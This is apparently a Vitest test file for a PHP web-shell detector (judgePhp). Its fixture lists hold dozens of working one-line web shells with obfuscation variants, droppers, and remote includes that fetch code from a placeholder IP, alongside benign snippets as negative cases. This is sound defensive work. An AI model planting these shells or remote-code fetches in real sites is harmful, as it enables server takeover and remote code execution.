import { describe, expect, test } from 'vitest';
import { judgePhp } from './flow.ts';

/** Code that runs what the request says; each line is one page. */
const SHELLS = [
  `<?php eval($_GET['shell']);`,
  `<?php @eval($_POST["x"]); ?>`,
  `<?=eval($_REQUEST[1])?>`,
  `<? system($_GET['c']); ?>`,
  `<?php system ( $_GET [ 'c' ] ) ;`,
  `<?php eval/* a comment */(/**/$_COOKIE['k'])/**/;`,
  `<?php EvAl($_pOsT['x']); eVaL($_POST['x']);`,
  `<?php \\system($_GET[0]);`,
  `<?php assert($_POST['x']);`,
  `<?php echo shell_exec($_GET['cmd'].' 2>&1');`,
  'GIF89a <?php echo `$_GET[c]`; ?>',
  "text before <?php $o = `{$_POST['c']}`; echo $o;",
  `<?php passthru("ls $_GET[d]");`,
  `<?php $c = $_GET['c']; system($c);`,
  `<?php $a = $b = trim($_REQUEST['c']); $d = "sh -c $b"; exec($d, $out); print_r($out);`,
  `<?php foreach ($_POST as $k => $v) { eval($v); }`,
  `<?php extract($_GET); $f($x);`,
  `<?php extract($_REQUEST); eval($code);`,
  `<?php parse_str($_SERVER['QUERY_STRING']); $a($b);`,
  `<?php $_GET['f']($_GET['x']);`,
  `<?php $f = $_GET['f']; $f($_GET['x']);`,
  `<?php $f = 'system'; $f($_GET['x']);`,
  `<?php $f = 'sys'.'tem'; $f($_POST[1]);`,
  `<?php $f = 'sys'; $f .= 'tem'; $f($_POST[1]);`,
  `<?php $a = 'as'; $b = 'sert'; $f = $a . $b; $f($_POST[1]);`,
  `<?php "\\x73\\x79\\x73\\x74\\x65\\x6d"($_GET['x']);`,
  `<?php ("sys"."tem")($_GET['x']);`,
  `<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET['x']);`,
  `<?php $x = \${'_GET'}; \${"_P"."OST"}['f'](\${"_P"."OST"}['x']);`,
  `<?php $n = '_GET'; $f = $$n; eval($$n['x']);`,
  `<?php eval($GLOBALS['_POST']['x']);`,
  `<?php call_user_func('system', $_GET['c']);`,
  `<?php call_user_func($_GET['f'], $_GET['c']);`,
  `<?php array_map('assert', $_POST);`,
  `<?php array_map("ass"."ert", array($_POST['x']));`,
  `<?php usort($_GET['a'], 'system');`,
  `<?php array_filter(array($_POST['x']), 'passthru');`,
  `<?php register_shutdown_function($_GET['f'], $_GET['x']);`,
  `<?php preg_replace('/.*/e', $_POST['x'], '');`,
  `<?php preg_replace("#a#ie", "{$_POST['x']}", 'a');`,
  `<?php preg_replace($_GET['p'], $_GET['r'], $_GET['s']);`,
  `<?php $f = create_function('', $_POST['x']); $f();`,
  `<?php include $_GET['page'];`,
  `<?php include($_GET['page'] . '.php');`,
  `<?php $p = $_GET['p']; require_once $p;`,
  `<?php eval(file_get_contents('php://input'));`,
  `<?php $d = file_get_contents("php://input"); eval($d);`,
  `<?php eval(base64_decode($_POST['z0']));`,
  `<?php $h = getallheaders(); system($h['X-Cmd']);`,
  `<?php system($_SERVER['HTTP_USER_AGENT']);`,
  `<?php eval(getenv('HTTP_X'));`,
  `<?php function r($c) { return shell_exec($c); } echo r($_GET['c']);`,
  `<?php echo r($_GET['c']); function r($c) { $x = $c; return shell_exec($x); }`,
  `<?php class A { function run($c) { system($c); } } (new A)->run($_GET['c']);`,
  `<?php if (md5($_POST['pass']) === 'x') { eval($_POST['code']); }`,
  `<?php (new ReflectionFunction($_GET['f']))->invoke($_GET['x']);`,
  `<?php $p = popen($_GET['c'], 'r'); echo fread($p, 4096);`,
  `<?php proc_open($_POST['c'], [], $pipes);`,
  `<?php pcntl_exec('/bin/sh', ['-c', $_GET['c']]);`,
  `<?php system(escapeshellarg($_GET['c']));`,
  `<?php $c = <<<X\nsh -c {$_GET['x']}\nX;\nsystem($c);`,
  `<?php $z = str_replace('q', '', 'qsqyqsqtqeqm'); $z($_POST['a']);`,
  `<?php $_ = ("{" ^ "<") . ("[" ^ ";"); $_($_POST['_']);`,
  `<?php $s = 'abcdefghmsty'; $f = $s[8].$s[11].$s[8].$s[10]; $f($_GET['x']);`,
  `<?php $a[system($_GET['c'])];`,
  `<?php echo md5(system($_GET['c']));`,
  '<?php echo strlen(`$_GET[c]`);',
  `<?php $x ??= $_GET['c']; eval($x);`,
  `#!/usr/bin/php\n<?php\n\n\nif (isset($_GET['c'])) {\n  echo '<pre>';\n  system(\n    $_GET['c']\n  );\n}`,
];

/** Code that runs text which it hides from its reader. */
const OBFUSCATED = [
  `<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));`,
  `<?php eval(gzinflate(base64_decode(str_rot13('xyz'))));`,
  `<?php $x = base64_decode('ZXZhbA=='); eval($x);`,
  `<?php $f = base64_decode('c3lzdGVt'); $f('id');`,
  `<?php assert(strrev(')"di"(metsys'));`,
  `<?php $f = create_function('', gzuncompress('...')); $f();`,
  `<?php eval("?>" . file_get_contents('http://192.0.2.1/x.txt'));`,
  `<?php include 'http://192.0.2.1/x.txt';`,
  `<?php include "data:text/plain;base64,PD9waHA=";`,
  `<?php $g = 'gzinf'.'late'; $b = 'base'.'64_decode'; eval(hex2bin('706870'));`,
];

const DROPPERS = [
  `<?php file_put_contents($_POST['f'], $_POST['c']);`,
  `<?php $h = fopen($_GET['name'], 'w'); fwrite($h, $_GET['data']);`,
  `<?php copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);`,
  `<?php move_uploaded_file($_FILES['f']['tmp_name'], $_GET['to']);`,
];

/** Code as applications have it. */
const LEGITIMATE = [
  `<?php echo htmlspecialchars($_GET['name'] ?? '', ENT_QUOTES);`,
  `<?php // eval($_GET['x']) would be a hole\n# system($_GET['c'])\n/* eval($_POST['x']); */ echo 1;`,
  `<p>Never write eval($_GET['x']) in your code.</p> <?php echo date('Y'); ?>`,
  `<?php $doc = 'system($_GET["c"])'; echo $doc;`,
  `<?php require_once ABSPATH . 'wp-admin/includes/admin.php'; include(dirname(__FILE__) . '/header.php');`,
  `<?php require __DIR__ . '/vendor/autoload.php'; $app->run(Request::createFromGlobals());`,
  `<?php include $_SERVER['DOCUMENT_ROOT'] . '/inc/footer.php';`,
  `<?php $action = isset($_REQUEST['action']) ? sanitize_key($_REQUEST['action']) : 'list';
    switch ($action) { case 'edit': edit_post((int) $_GET['post']); break; default: list_posts(); }`,
  `<?php $ids = array_map('intval', (array) $_POST['ids']); $wpdb->query("DELETE FROM t WHERE id IN (" . implode(',', $ids) . ")");`,
  `<?php add_action('init', function () { if (isset($_GET['feed'])) { do_feed(); } });`,
  `<?php $data = unserialize(base64_decode(get_option('widget'))); foreach ($data as $key => $value) { echo esc_html($value); }`,
  `<?php $pdo->exec('UPDATE t SET n = n + 1'); $st = $pdo->prepare('SELECT * FROM t WHERE id = ?'); $st->execute([$_GET['id']]);`,
  `<?php exec('convert -resize 100x100 ' . escapeshellarg($_FILES['f']['tmp_name']) . ' /tmp/out.png');`,
  `<?php exec('git rev-parse HEAD', $lines); echo $lines[0];`,
  `<?php $s = preg_replace('/[^a-z0-9_-]/', '', $_GET['slug']); echo $s;`,
  `<?php $s = preg_replace('/(secret|here)/', $_GET['with'], $text);`,
  `<?php $pages = ['home' => 'home.php', 'about' => 'about.php']; $p = $_GET['p']; if (isset($pages[$p])) { include __DIR__ . '/' . $pages[$p]; }`,
  `<?php $handlers = ['a' => 'handle_a']; $handlers[$_GET['action']]($request);`,
  `<?php $callback = $this->callbacks[$name]; $callback($_POST['value']);`,
  `<?php return call_user_func_array([$this, 'handle'], [$_GET['id']]);`,
  `<?php function apply_filters($tag, $value) { global $wp_filter; foreach ($wp_filter[$tag] as $f) { $value = call_user_func($f['function'], $value); } return $value; } echo apply_filters('the_title', $_GET['title']);`,
  `<?php usort($rows, function ($a, $b) { return strcmp($a[$_GET['sort']], $b[$_GET['sort']]); });`,
  `<?php if (move_uploaded_file($_FILES['f']['tmp_name'], UPLOADS . '/' . basename($_FILES['f']['name']))) { echo 'ok'; }`,
  `<?php file_put_contents(__DIR__ . '/cache/' . md5($_SERVER['REQUEST_URI']), $html);`,
  `<?php $payload = json_decode(file_get_contents('php://input'), true); save($payload['title']);`,
  `<?php class Template { function render($file, $vars) { extract($vars); include $file; } } $t->render('page.php', ['q' => $_GET['q']]);`,
  `<?php $fn = 'strtoupper'; echo $fn($_GET['name']);`,
  `<?xml version="1.0"?><rss><title>eval($_GET['x'])</title></rss>`,
  `<?php $hash = hash('sha256', $_POST['password']); if (password_verify($_POST['password'], $row['hash'])) { session_start(); $_SESSION['user'] = $row['id']; header('Location: ' . $_GET['return']); }`,
  `<?php function run($x) { add_hook(function ($c) { exec('ls', $c); }); } run($_GET['a']); exec($argv[1]);`,
  `<?php assert(is_string($name)); assert($x > 0, 'positive');`,
];

describe('judgePhp', () => {
  test.each(SHELLS)('sees the shell in %s', (code) => {
    expect(judgePhp(code).shell ?? judgePhp(code).obfuscated).not.toBeNull();
  });

  test.each(OBFUSCATED)('sees hidden code in %s', (code) => {
    expect(judgePhp(code).obfuscated).not.toBeNull();
  });

  test.each(DROPPERS)('sees the dropper in %s', (code) => {
    expect(judgePhp(code).dropper).not.toBeNull();
  });

  test.each(LEGITIMATE)('has nothing against %s', (code) => {
    expect(judgePhp(code)).toEqual({ shell: null, obfuscated: null, dropper: null });
  });

  test('names what reaches what', () => {
    expect(judgePhp(`<?php $c = $_GET['c']; system($c);`).shell).toBe('request input ($c) reaches system');
    expect(judgePhp(`<?php eval($_GET['c']);`).shell).toBe('request input ($_GET) reaches eval');
  });
});
